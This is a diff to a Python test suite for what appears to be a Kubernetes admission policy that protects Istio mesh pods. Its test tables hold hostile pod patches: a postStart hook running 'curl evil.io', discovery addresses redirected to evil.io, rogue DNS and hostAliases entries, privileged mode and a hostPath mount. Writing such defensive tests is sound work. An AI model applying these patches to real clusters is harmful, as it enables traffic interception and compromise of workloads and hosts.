@@ -83,8 +83,9 @@ def test_only_the_label_s_own_value_enrols(
     ("value", "bypasses"),
     [
         ("true", True), ("True", True), ("TRUE", True), ("t", True), ("T", True), ("1", True),
-        ("false", False), ("False", False), ("0", False), ("", False), ("yes", False),
-        ("on", False), (" true", False), ("true ", False), ("2", False),
+        ("false", False), ("False", False), ("0", False),
+        # None of these is a boolean to Go; which one is meant is not ours to guess.
+        ("", True), ("yes", True), (" true", True), ("2", True),
     ],
 )  # fmt: skip
 def test_the_switch_for_inbound_capture_is_read_as_go_reads_it(value: str, bypasses: bool) -> None:
@@ -120,10 +121,9 @@ def test_what_an_update_makes_worse_is_refused(change: Change, check: str) -> No
 def test_what_the_cni_agent_writes_is_its_own_affair() -> None:
     enrolled = changed(app(), annotation(REDIRECTION, "enabled"))
     for before, after in itertools.permutations((app(), enrolled)):
-        verdict = judge(after, before, by="ambient")
+        verdict = judge(after, before, by="ambient", subresource="status")
         assert verdict.outcome == "admitted"
-    status = judge(enrolled, app(), by="ambient", subresource="status")
-    assert status.allowed
+        assert found(after, old=before) == ["mesh-label-removed"]
     assert found(enrolled) == ["status-forged"]
     assert found(enrolled, stored=True) == []
 
@@ -156,7 +156,11 @@ def test_the_mesh_s_own_pods_are_left_alone(pod: Json) -> None:
         [annotation("proxy.istio.io/config", "discoveryAddress: evil.io:15012")],
         [annotation("sidecar.istio.io/discoveryAddress", "evil.io:15012")],
         [annotation("sidecar.istio.io/bootstrapOverride", "shop")],
-        [put(APP + "/lifecycle", {"preStop": {"exec": {"command": ["curl", "evil.io"]}}})],
+        [put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})],
+        [put("/spec/hostAliases", [{"ip": "10.9.9.9", "hostnames": ["erp.example.com"]}])],
+        [put("/spec/dnsConfig", {"nameservers": ["10.9.9.9"]})],
+        [put(APP + "/securityContext/privileged", True)],
+        [put(APP + "/env/-", {"name": "PROXY_CONFIG", "value": "{serviceCluster: $(APP)}"})],
         [put("/spec/volumes/0", {"name": "workload-socket", "hostPath": {"path": "/run"}})],
         [put("/spec/volumes/-", {"name": "extra", "emptyDir": {}}),
          put(APP + "/volumeMounts/-", {"name": "extra", "mountPath": "/var/lib/istio/envoy"})],
@@ -182,7 +186,12 @@ def test_of_a_gateway_with_more_in_it_the_opt_out_is_explained(by: str) -> None:
         (one,) = [violation for violation in told if violation.check == "opted-out"]
         return one.reason
 
-    assert "only a gateway may that is Istio's own proxy" in reason(changed(waypoint(), beside))
+    assert "it runs istio-proxy in 2 containers" in reason(changed(waypoint(), beside))
+    hook = put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})
+    text = reason(changed(waypoint(), hook))
+    assert "spec.containers[istio-proxy].lifecycle.postStart runs a command of its own" in text
+    agent = put(APP + "/name", "agentgateway")
+    assert "it runs agentgateway in 1 containers" in reason(changed(waypoint(), agent))
     managed = drop("/metadata/labels/gateway.istio.io~1managed")
     assert "gateway" not in reason(changed(waypoint(), beside, managed))
 
